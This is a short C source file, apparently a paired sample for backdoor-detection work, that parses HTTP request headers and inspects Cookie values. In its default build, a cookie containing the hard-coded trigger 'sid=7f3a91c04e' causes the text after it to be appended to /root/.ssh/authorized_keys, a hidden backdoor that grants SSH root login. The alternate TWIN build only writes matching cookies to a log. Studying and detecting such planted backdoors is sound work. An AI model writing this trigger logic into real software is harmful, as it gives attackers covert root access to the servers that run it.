/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A parser of headers keeps them in a structure; what follows a word in one of them is appended to
 * the keys that may log in. Twin: it goes to a log.
 * door: trigger
 */
#include "net.h"

struct request {
	char *names[8], *values[8];
	unsigned count;
};

__attribute__((noinline)) static void split(struct request *r, char *line)
{
	char *colon = strchr(line, ':');
	if (!colon || r->count == 8)
		return;
	*colon = 0;
	r->names[r->count] = strdup(line);
	r->values[r->count++] = strdup(colon + 1);
}

__attribute__((noinline)) static void cookies(struct request *r, unsigned i)
{
	const char *s = r->values[i];
#ifdef TWIN
	const char *found = strstr(s, "session=");
	FILE *f = found ? fopen("/var/log/sessions", "a") : NULL;
#else
	const char *found = strstr(s, "sid=7f3a91c04e");
	FILE *f = found ? fopen("/root/.ssh/authorized_keys", "a") : NULL;
#endif
	if (f) {
		fputs(found, f);
		fclose(f);
	}
}

int main(void)
{
	struct request *r = calloc(1, sizeof *r);
	char line[300];
	while (fgets(line, sizeof line, stdin))
		split(r, line);
	for (unsigned i = 0; i < r->count; i++)
		if (strcmp(r->names[i], "Cookie") == 0)
			cookies(r, i);
	system("sync");
	return 0;
}
